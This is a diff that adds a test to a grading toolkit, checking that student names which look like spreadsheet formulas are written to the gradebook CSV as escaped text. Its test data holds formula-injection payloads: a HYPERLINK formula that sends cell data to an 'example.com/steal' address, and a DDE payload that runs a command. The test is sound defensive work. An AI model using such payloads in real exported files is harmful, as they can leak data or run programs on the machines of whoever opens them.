@@ -113,6 +113,21 @@ def test_a_students_own_zip_is_theirs_and_its_notebook_is_graded(tmp_path):
     assert set(found) == {"dave", "erin", "fay", "gus", "smithjane"}
 
 
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path):
+    from dlkit.instructor.grading.gradebook import Gradebook
+    from dlkit.instructor.grading.records import ExerciseResult, GradeResult
+
+    book = Gradebook(tmp_path, "00_foundations", ["conv2d_valid"])
+    names = ['=HYPERLINK("http://example.com/steal?"&A1,"grade")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "bob"]
+    book.write_csv([GradeResult(name, f"{name}/lab00.ipynb", "0" * 64, "ok",
+                                exercises=[ExerciseResult("conv2d_valid", 1, "fine")]) for name in names])
+    book.close()
+    table = read_csv(tmp_path)
+    assert [row["student"] for row in table] == ["'" + name for name in names[:3]] + ["bob"]
+    assert all(row["file"].startswith("'") for row in table[:3]) and table[3]["file"] == "bob/lab00.ipynb"
+    assert [row["conv2d_valid"] for row in table] == ["1"] * 4
+
+
 def test_the_newest_of_two_files_counts_and_the_other_is_listed(tmp_path):
     sandbox_or_skip()
     older = write(tmp_path / "in" / "dana" / "first try.ipynb", notebook(SETUP, WRONG_CONVOLUTION))
